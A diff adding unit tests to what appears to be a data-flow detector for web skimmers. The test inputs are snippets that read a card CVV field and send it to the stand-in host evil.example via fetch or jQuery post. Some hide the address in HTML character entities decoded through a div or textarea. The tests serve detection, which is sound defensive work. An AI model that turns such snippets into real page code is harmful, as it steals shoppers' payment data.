@@ -139,3 +139,20 @@ it('a list that is turned round until a sum is right is turned in steps that it 
   expect(steps).toBeLessThan(1_500_000)
   expect(flows(text)).toEqual([' > fetch t0.example'])
 })
+
+it.each([
+  ['a table of letters', '"0123456789abcdef"[n >> 4]'],
+  ['a list', '[7, 3, 9, 4][n & 3]'],
+])('what %s makes of something that was typed tells of it', (_name, looked) => {
+  expect(flows(`var n = document.querySelector("#cvv").value.charCodeAt(0); fetch("${evil}?" + ${looked})`)).toEqual([
+    'card > fetch evil.example',
+  ])
+})
+
+it('an address in numbered characters is read out of the markup that it was put into', () => {
+  const numbered = [...evil].map((one) => `&#${one.charCodeAt(0)};`).join('')
+  expect(flows(`$.post($("<div />").html("${numbered}").text(), { a: $("#cvv").val() })`)).toEqual(['card > ajax evil.example'])
+  expect(flows(`var d = document.createElement("textarea"); d.innerHTML = "${numbered}"; fetch(d.value)`)).toEqual([
+    ' > fetch evil.example',
+  ])
+})
